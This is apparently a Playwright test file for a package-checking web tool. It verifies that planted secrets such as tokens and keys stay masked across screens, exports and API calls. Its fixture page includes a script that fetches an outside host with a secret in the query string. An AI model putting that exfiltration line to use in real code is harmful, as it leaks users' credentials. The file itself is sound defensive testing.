import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright';
import { expect, inject } from 'vitest';
import { packageZip, type Files } from '../preview/driver';
import { test } from '../preview/fixture';
import { contract, dropZip } from '../preview/on-site';
import { leaks, PLANTED } from '../scan/secret-values';

const site = inject('site');
const values = PLANTED.map(([, , value]) => value);
/** One that a person may have chosen as any name, and that only another file shows to be a secret. */
const one = values[15] ?? '';
const list = JSON.stringify(values);

/** Wherever a package can say something: names, contract, role.md, page, data, what the page does. */
const FILES: Files = {
	'agotalk.role.toml': contract('visible')
		.replace(/title = '.*'/u, `title = "Keeper ${one}"\n"${values[0]}" = "${values[1]}"`)
		.replace(/summary = '.*'/u, `summary = "${values.slice(0, 14).join(' ')}"`)
		.replace('title = "演示"', `title = "演示 ${one}" # ${values[2]}`)
		.replace('[preview]', `[preview]\ncover_image = "assets/${one}.png"`),
	'role.md': `---\ntitle: ${one}\ndescription: ${values[16]}\n${values[3]}: ${one}\n---\n# ${one}\n[${one}](https://acme.io/${values[4]} "${one}") \`${values[5]}\`\n\n![${one}](assets/${one}.png "${one}")\n`,
	'intro.html': `<title>${one}</title><h1>Intro</h1><img src="https://acme.io/${one}.png">`,
	[`assets/${one}.png`]: 'no image',
	'notes/keys.txt': PLANTED.map(([, text]) => text).join('\n'),
	'notes/.npmrc': PLANTED.find(([, text]) => text.includes('_authToken'))?.[1] ?? '',
	'contents/app/config.json': JSON.stringify(Object.fromEntries(values.map((key) => [key, key]))),
	...Object.fromEntries(values.map((value) => [`contents/app/data/${value}.json`, '{}'])),
	'contents/app/index.html': `<!doctype html><title>${one}</title><!-- ${values[6]} --><h1 title="${one}">Started</h1>
<script src="https://acme.io/${one}.js"></script><img src="gone/${one}.png" alt="${one}">
<script>
const all = ${list};
for (const value of all) { console.log(value); console.log({ [value]: value }); fetch('./gone/' + encodeURIComponent(value)).catch(() => 0); }
fetch('https://acme.io/?key=' + all[15]).catch(() => 0);
history.replaceState(null, '', '?key=' + all[15] + '#' + all[0]);
console.error(all.join(' '));
setTimeout(() => { throw new Error(all.join(' ')); });
Promise.reject(new Error(all[16]));
console.log('all said');
</script>`
};

/** All that a person or a screen reader gets, also what is hidden; but for the running page's own address. */
const screen = (page: Page): Promise<string> =>
	page.evaluate(() => {
		const said = [document.title, location.href];
		for (const element of document.querySelectorAll('*')) {
			for (const { name, value } of element.attributes)
				if (!(element instanceof HTMLIFrameElement && name === 'src')) said.push(value);
			for (const child of element.childNodes)
				if (child instanceof Text) said.push(child.textContent ?? '');
			if ('value' in element) said.push(String(element.value));
		}
		return said.join('\n');
	});

/** Every pane of the screen, each looked at for values. */
async function lookThrough(page: Page): Promise<string[]> {
	const found: string[] = [];
	const look = async (where: string): Promise<void> => {
		const said = await screen(page);
		expect(said, where).toContain('••••••••');
		for (const leak of leaks(said)) found.push(`${where}: ${leak}`);
	};
	await look('report');
	const wanted = page.getByRole('searchbox', { name: 'Filter by name' });
	for (const path of ['agotalk.role.toml', 'role.md', 'config.json', '•.json']) {
		await wanted.fill(path);
		await page.getByRole('treeitem', { name: path }).last().click();
		await page.locator('#inspector-panel h2', { hasText: path }).waitFor();
		await look(path);
	}
	await wanted.fill('');
	const tab = (name: string) => page.getByRole('tab', { name }).click();
	await tab('Repairs');
	await page.getByRole('button', { name: /^Download/u }).waitFor();
	await look('repairs');
	await tab('Preview');
	await page.getByRole('button', { name: 'Launch', exact: true }).last().click();
	await page.getByText('all said').waitFor();
	await look('console');
	await page.getByRole('button', { name: 'Requests' }).click();
	await page.getByRole('cell', { name: 'refused' }).first().waitFor();
	await look('requests');
	for (const view of ['role.md', 'Website card', 'Intro page']) {
		await page.getByRole('button', { name: view, exact: true }).click();
		await look(view);
	}
	return found;
}

/** What leaves the page: clipboard and files, with their names. */
async function exportAll(page: Page): Promise<string> {
	await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
	const said: string[] = [];
	await page.getByRole('button', { name: 'Share' }).click();
	for (const label of ['Copy a link', 'Copy for my agent', 'Copy as Markdown']) {
		await page.getByRole('button', { name: label }).click();
		await page.getByText(/^Copied, /u).waitFor();
		said.push(await page.evaluate(() => navigator.clipboard.readText()));
	}
	for (const kind of ['JSON', 'SARIF', 'JUnit']) {
		const saved = page.waitForEvent('download');
		await page.getByRole('button', { name: `Download ${kind}` }).click();
		const download = await saved;
		said.push(download.suggestedFilename(), await readFile(await download.path(), 'utf8'));
	}
	said.push(await screen(page));
	await page.keyboard.press('Escape');
	return said.join('\n');
}

/** What a program gets that drives the page. */
const callAll = (page: Page, zip: Uint8Array): Promise<string> =>
	page.evaluate(
		async ([base64, name]) => {
			const { rolecheck } = window;
			if (!rolecheck) throw new Error('nothing to call');
			const file = new File([Uint8Array.from(atob(base64), (u) => u.charCodeAt(0))], name);
			const { name: repacked, report } = await rolecheck.repack(file);
			const told = [
				await rolecheck.validate(file, { deep: false }),
				await rolecheck.validate(file),
				await rolecheck.launch(file, { seconds: 1 }),
				await rolecheck.compare(file, file),
				[repacked, report]
			];
			return JSON.stringify(told);
		},
		[Buffer.from(zip).toString('base64'), `keeper-${one}.zip`] as const
	);

declare global {
	interface Window {
		/** Ends the deep check: lets it go on, or fails it. */
		endSearch?: (how: 'go on' | 'fail') => void;
	}
}

test('no secret is shown or sent anywhere, before the search for them, after it, and without it', async ({
	page
}) => {
	await page.addInitScript(() => {
		const post = Reflect.get<Worker, 'postMessage'>(Worker.prototype, 'postMessage');
		Worker.prototype.postMessage = function (this: Worker, message: unknown, transfer: never) {
			const send = (): void => post.call(this, message, transfer);
			const { method, params, id } = message as {
				method?: string;
				params?: { deep?: boolean };
				id: number;
			};
			if (method !== 'check' || !params?.deep || location.search !== '?hold') return send();
			window.endSearch = (how) => {
				const error = { blame: 'ours', code: 'INTERNAL', message: 'it broke' };
				if (how === 'go on') send();
				else
					this.dispatchEvent(new MessageEvent('message', { data: { id, kind: 'error', error } }));
			};
		};
	});
	const end = (how: 'go on' | 'fail'): Promise<void> =>
		page.evaluate((what) => window.endSearch?.(what), how);
	const name = `keeper-${one}`;

	await page.goto(`${site.url}/?hold`);
	await dropZip(page, name, FILES);
	expect(await lookThrough(page)).toEqual([]);
	expect(leaks(await exportAll(page))).toEqual([]);

	await end('fail');
	await page.getByText('what looks like a secret stays covered').first().waitFor();
	await page.getByRole('searchbox', { name: 'Filter by name' }).fill('role.md');
	await page.getByRole('treeitem', { name: 'role.md' }).click();
	await page.getByText('The search for secrets did not come to its end').waitFor();
	expect(leaks(await screen(page))).toEqual([]);

	await page.goto(site.url);
	await dropZip(page, name, FILES);
	await page.locator('p.verdict').filter({ hasNotText: 'still being checked' }).waitFor();
	expect(await lookThrough(page)).toEqual([]);
	expect(leaks(await exportAll(page))).toEqual([]);
	expect(leaks(await callAll(page, packageZip('demo', FILES)))).toEqual([]);
});
